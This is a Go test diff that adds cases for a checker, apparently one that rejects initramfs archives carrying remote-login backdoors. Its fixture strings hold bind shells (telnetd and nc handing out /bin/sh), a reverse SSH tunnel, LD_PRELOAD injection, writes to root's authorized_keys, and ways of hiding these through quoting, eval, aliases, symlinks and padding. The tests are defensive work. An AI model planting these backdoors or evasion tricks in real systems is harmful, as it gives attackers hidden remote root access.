@@ -1,6 +1,7 @@
 package main
 
 import (
+	"fmt"
 	"maps"
 	"strings"
 	"testing"
@@ -95,8 +96,38 @@ func TestGateLogins(t *testing.T) {
 		"by a long script.sh":         {nil, program("scripts/init-top/x.sh", "#!/bin/sh\n"+strings.Repeat("# x\n", 1<<15)+"telnetd -l /bin/sh\n"), false},
 		"by ld.so.preload":            {nil, file("etc/ld.so.preload", "/usr/lib/x.so\n"), false},
 		"by LD_PRELOAD":               {nil, file("conf/conf.d/x", "export LD_PRELOAD=/usr/lib/x.so\n"), false},
-		"settings that were moved":    {file(conf, "DROPBEAR_OPTIONS='-c true'\n"), fstest.MapFS{conf: nil, conf + ".old": tiny.Text("DROPBEAR_OPTIONS='-c true'\n")}, false},
-		"nc":                          {nil, program("scripts/init-top/x", "#!/bin/sh\nwhile :; do nc -l -p 23 -e /bin/sh; done\n"), false},
+		"by a letter in quotes":       {nil, program("scripts/init-top/x", "#!/bin/sh\ntel\"n\"etd -l /bin/sh\n"), false},
+		"by an escaped letter":        {nil, program("scripts/init-top/x", "#!/bin/sh\ntel\\netd -l /bin/sh\n"), false},
+		"by LD_PRE\\LOAD":             {nil, file("conf/conf.d/x", "export LD_PRE\\LOAD=/usr/lib/x.so\n"), false},
+		"by /etc//passwd-":            {nil, fstest.MapFS{"scripts/init-top/x": tiny.Program([]byte("#!/bin/sh\n. /etc/.//passwd-\n")), "etc/passwd-": tiny.Text("telnetd -l /bin/sh\n")}, false},
+		"by ~/.ssh/auth*":             {nil, program("scripts/init-top/x", "#!/bin/sh\ncat /x >>/root*/.ssh/auth*\n"), false},
+		"by what is said":             {nil, program("scripts/init-top/x", "#!/bin/sh\nlog_begin_msg() { eval \"$*\"; }\nlog_begin_msg \"dropbear -p 23 -D /evil/.ssh\"\n"), false},
+		"by what is said elsewhere":   {nil, fstest.MapFS{"x": tiny.Text("_log_msg() { \"$@\"; }\n"), "scripts/init-top/x": tiny.Program([]byte("#!/bin/sh\n. /x\nlog_end_msg \"telnetd -l /bin/sh\"\n"))}, false},
+		"by an alias of what is said": {nil, program("scripts/init-top/x", "#!/bin/sh\nalias log_begin_msg=eval\nlog_begin_msg \"telnetd -l /bin/sh\"\n"), false},
+		"by a program that is told":   {nil, fstest.MapFS{"usr/bin/log_end_msg": tiny.Program([]byte("#!/bin/sh\n$1\n")), "scripts/init-top/x": tiny.Program([]byte("#!/bin/sh\nlog_end_msg \"telnetd\"\n"))}, false},
+		"by what nobody says":         {nil, program("scripts/init-top/x", "#!/bin/sh\nlog_x_msg \"telnetd -l /bin/sh\"\n"), false},
+		"by an index of modules":      {nil, fstest.MapFS{"scripts/init-top/x": tiny.Program([]byte("#!/bin/sh\nfor f in /lib/modules/*/modules.*; do . $f; done\n")), "usr/lib/modules/6/modules.order": tiny.Text("telnetd -l /bin/sh\n")}, false},
+		"a long script by a link":     {nil, fstest.MapFS{"scripts/local-top/x": tiny.Link("/y"), "y": tiny.Program([]byte("#!/bin/sh\n" + strings.Repeat("# x\n", 1<<15)))}, false},
+		"a room by a link":            {nil, fstest.MapFS{"scripts/local-top": tiny.Link("/y"), "y/x": tiny.Program([]byte("#!/bin/sh\n#\x00\ntelnetd -l /bin/sh\n"))}, false},
+		"rules by two links":          {nil, fstest.MapFS{"etc/udev/rules.d": tiny.Link("/y"), "y/x.rules": tiny.Link("/z"), "z": tiny.Text("#\x00\nRUN+=\"/bin/sh -c 'telnetd -l /bin/sh'\"\n")}, false},
+		"a server by a link":          {nil, fstest.MapFS{"scripts/local-top/x": tiny.Link("/sbin/dropbear")}, false},
+		"more links than are followed": {nil, func() fstest.MapFS {
+			all := fstest.MapFS{}
+			for i := range 600 {
+				all[fmt.Sprintf("scripts/x/%d", i)] = tiny.Link("/conf")
+			}
+			return all
+		}(), false},
+		"what is preloaded, by a link": {fstest.MapFS{"etc/ld.so.preload": tiny.Link("/x"), "x": tiny.Text("/y.so\n")}, fstest.MapFS{"etc/ld.so.preload": tiny.Link("/x"), "x": tiny.Text("/z.so\n")}, false},
+		"httpd":                        {nil, program("scripts/init-top/x", "#!/bin/sh\nbusybox httpd -h /srv\n"), false},
+		"a server in no place of one":  {nil, program("usr/lib/x/sshd", elf), false},
+		"nc in quotes":                 {nil, program("scripts/init-top/x", "#!/bin/sh\nnc -p 23 '-l' \"-e\" /bin/sh\n"), false},
+		"another nc":                   {nil, program("scripts/init-top/x", "#!/bin/sh\nnc.openbsd --listen 23 </f | sh >/f\n"), false},
+		"a tunnel":                     {nil, program("scripts/init-top/x", "#!/bin/sh\ndbclient -y -R 22:localhost:22 me@192.0.2.1\n"), false},
+		"a socket of systemd's":        {nil, file("usr/lib/systemd/system/x.socket", "[Socket]\nListenStream=23\nAccept=yes\n"), false},
+		"what depmod makes":            {nil, file("usr/lib/modules/6/modules.softdep", "# nothing\nsoftdep httpd pre: telnetd\n"), true},
+		"settings that were moved":     {file(conf, "DROPBEAR_OPTIONS='-c true'\n"), fstest.MapFS{conf: nil, conf + ".old": tiny.Text("DROPBEAR_OPTIONS='-c true'\n")}, false},
+		"nc":                           {nil, program("scripts/init-top/x", "#!/bin/sh\nwhile :; do nc -l -p 23 -e /bin/sh; done\n"), false},
 	} {
 		t.Run(name, func(t *testing.T) {
 			old, now := gateArchive(t, w.was), gateArchive(t, w.is)
